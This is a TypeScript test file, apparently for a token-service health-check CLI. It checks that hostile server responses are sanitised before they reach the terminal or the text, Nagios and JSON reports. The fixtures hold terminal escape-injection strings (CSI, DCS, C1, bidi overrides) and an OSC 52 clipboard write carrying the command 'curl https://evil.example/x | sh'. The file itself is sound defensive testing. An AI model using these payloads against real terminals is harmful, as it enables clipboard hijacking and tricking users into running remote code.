// Hostile text from the network: a server whose error_description, body and headers carry
// CSI, OSC (including an OSC 52 clipboard write), DCS, C1 controls, bidi overrides,
// over-long lines and invalid UTF-8. None of it may reach the terminal: not in the sample's
// error, not in the --once text or nagios report; JSON escapes what it carries.

import type {Socket} from 'node:net';
import {afterAll, beforeAll, describe, expect, test} from 'vitest';
import {evaluate} from '../../checks/token-service.js';
import type {Sample} from '../../checks/types.js';
import {createProber} from '../../source/probe/prober.js';
import {formatJsonReport} from '../../source/report/format-json.js';
import {formatNagiosReport} from '../../source/report/format-nagios.js';
import {formatTextReport} from '../../source/report/format-text.js';
import {afterRequest} from '../probe/fault-server.js';
import {startRaw, type RawServer} from '../support/raw-servers.js';
import {runCli, TERMINAL_HOSTILE} from './run-cli.js';

const ESC = '\u001b';
const CLIPBOARD = Buffer.from('curl https://evil.example/x | sh').toString('base64');
/** Everything a terminal might act on, in one string. */
const HOSTILE =
	`${ESC}[2J${ESC}[H` + // clear screen, cursor home
	`${ESC}]52;c;${CLIPBOARD}\u0007` + // OSC 52: write the clipboard
	`${ESC}]0;owned${ESC}\\` + // OSC 0: retitle the window
	`${ESC}P+q544e${ESC}\\` + // DCS: request termcap
	'\u009b31m\u009d2;t\u009c' + // C1 CSI and C1 OSC
	'invalid_grant \u202eexe.gnp\u202c details ' + // bidi override
	'L'.repeat(3000); // an over-long line

/** Raw bytes 0xff 0xfe: not UTF-8 at all. */
const INVALID_UTF8 = Buffer.from([0xff, 0xfe]);

function respond(socket: Socket, head: string[], body: Buffer): void {
	afterRequest(socket, () => {
		socket.end(Buffer.concat([Buffer.from([...head, `content-length: ${body.length}`, 'connection: close', '', ''].join('\r\n'), 'latin1'), body]));
	});
}

let server: RawServer;

beforeAll(async () => {
	server = await startRaw(socket => {
		socket.once('data', (first: Buffer) => {
			socket.unshift(first);
			const path = /^POST (\S+)/.exec(first.toString('latin1'))?.[1] ?? '/';
			if (path === '/oauth') {
				// JSON escapes carry the controls; raw invalid bytes sit inside the string.
				const json = JSON.stringify({error: 'invalid_client', error_description: `${HOSTILE}@@`});
				const [before, after] = json.split('@@') as [string, string];
				respond(socket, ['HTTP/1.1 401 Unauthorized', 'content-type: application/json'], Buffer.concat([Buffer.from(before), INVALID_UTF8, Buffer.from(after)]));
			} else if (path === '/redirect') {
				// Header bytes: UTF-8 encoded C1 CSI and bidi override, invalid bytes, a long tail.
				const location = Buffer.concat([Buffer.from('https://evil.example/\u009b2J\u202eexe.gnp\u202c/'), INVALID_UTF8, Buffer.from('x'.repeat(2000))]);
				respond(socket, ['HTTP/1.1 302 Found', `location: ${location.toString('latin1')}`], Buffer.alloc(0));
			} else if (path === '/rate') {
				respond(socket, ['HTTP/1.1 429 Too Many Requests', `retry-after: 30\u009b2J${Buffer.from('\u202e').toString('latin1')}`], Buffer.alloc(0));
			} else {
				// A raw ESC in a header: the HTTP parser itself refuses the answer.
				respond(socket, ['HTTP/1.1 302 Found', `location: https://evil.example/${ESC}[2J`], Buffer.alloc(0));
			}
		});
	});
});

afterAll(async () => {
	await server?.close();
});

async function probePath(path: string, withCredentials: boolean): Promise<Sample> {
	const prober = createProber({
		endpoint: server.url(path),
		timeoutMs: 2500,
		credentials: withCredentials ? {clientId: 'doctor', clientSecret: 'pa55-word-xyz'} : null,
	});
	try {
		return await prober.probe();
	} finally {
		await prober.close();
	}
}

function expectSafeLines(text: string, maxLine: number): void {
	expect(text).not.toMatch(TERMINAL_HOSTILE);
	for (const line of text.split('\n')) expect(Array.from(line).length).toBeLessThanOrEqual(maxLine);
}

describe('the sample error and the reports', () => {
	test('an error_description full of escape sequences, bidi overrides and invalid UTF-8', async () => {
		const sample = await probePath('/oauth', true);
		const error = sample.error!;
		expect(error.startsWith('HTTP 401 Unauthorized: invalid_client: invalid_grant exe.gnp details LLL')).toBe(true);
		expect(error).not.toMatch(TERMINAL_HOSTILE);
		expect(error).not.toContain(CLIPBOARD);
		expect(error).not.toContain('owned');
		expect(Array.from(error).length).toBeLessThanOrEqual(300);
		expect(error.endsWith('…')).toBe(true);

		const result = evaluate(sample);
		const input = {result, sample, timeoutMs: 2500};
		expectSafeLines(formatTextReport(input), 420);
		expectSafeLines(formatNagiosReport(input), 420);
		expect(formatJsonReport(input)).not.toMatch(TERMINAL_HOSTILE);
	});

	test('invalid UTF-8 becomes U+FFFD', async () => {
		// Short enough not to be cut: the body holds only the invalid bytes.
		const prober = createProber({endpoint: server.url('/redirect'), timeoutMs: 2500});
		try {
			const sample = await prober.probe();
			expect(sample.error).toContain('https://evil.example/exe.gnp/\ufffd\ufffdxxx');
			expect(sample.error).not.toMatch(TERMINAL_HOSTILE);
			expect(Array.from(sample.error!).length).toBeLessThanOrEqual(300);
			expect(evaluate(sample).status).toBe('fail');
		} finally {
			await prober.close();
		}
	});

	test('a hostile Retry-After', async () => {
		const sample = await probePath('/rate', false);
		// Neither seconds nor a date once decoded: left out rather than shown half-garbled.
		expect(sample.error).toBe('HTTP 429 Too Many Requests (rate limited)');
	});

	test('a raw ESC in a header: the answer is refused as malformed, in one clean line', async () => {
		const sample = await probePath('/esc', false);
		expect(sample.available).toBe(false);
		expect(sample.error).toBe('Response does not match the HTTP/1.1 protocol (Invalid header value char)');
	});
});

describe('JSON escapes what it carries', () => {
	test('a sample error that was never sanitized still leaves the JSON report escaped', () => {
		// Not what the probe produces; the JSON layer must hold on its own.
		const sample: Sample = {
			endpoint: 'http://127.0.0.1:1/connect/token',
			startedAt: 0,
			mode: 'reachability',
			available: false,
			responseTimeMs: null,
			httpStatus: null,
			error: `${ESC}]52;c;${CLIPBOARD}\u0007\u009b2J\u202eabc\u2028`,
			phases: {dnsMs: null, connectMs: null, tlsMs: null, firstByteMs: null, transferMs: null},
			insecure: false,
		};
		const json = formatJsonReport({result: evaluate(sample), sample, timeoutMs: 2500});
		expect(json).not.toMatch(TERMINAL_HOSTILE);
		expect(json).not.toContain('\u2028');
		expect(json).toContain('\\u001b]52;c;');
		expect(json).toContain('\\u009b2J\\u202eabc\\u2028');
		expect(JSON.parse(json).evidence.Error).toBe(sample.error);
	});
});

describe('the built CLI, --once, in every format', () => {
	test.concurrent.for(['text', 'json', 'nagios'])('%s: no escape, C1 or bidi byte reaches stdout', async format => {
		const run = await runCli(['--once', '--format', format, '--endpoint', server.url('/oauth'), '--client-id', 'doctor'], {
			env: {STELLA_DOCTOR_CLIENT_SECRET: 'pa55-word-xyz'},
		});
		expect(run.code).toBe(2);
		expect(run.stderr).toBe('');
		// Byte level: no ESC, no UTF-8 encoded C1 (C2 80..9F), no UTF-8 bidi controls.
		expect(run.stdoutBytes.includes(0x1b)).toBe(false);
		expect(/\xc2[\x80-\x9f]/.test(run.stdoutBytes.toString('latin1'))).toBe(false);
		expect(run.stdout).not.toMatch(TERMINAL_HOSTILE);
		expect(run.stdout).toContain('invalid_client');
		expect(run.stdout).not.toContain(CLIPBOARD);
		if (format === 'json') expect(JSON.parse(run.stdout).evidence.Error).toMatch(/^HTTP 401 Unauthorized: invalid_client: invalid_grant exe\.gnp/);
		else for (const line of run.stdout.split('\n')) expect(Array.from(line).length).toBeLessThanOrEqual(420);
	});
});
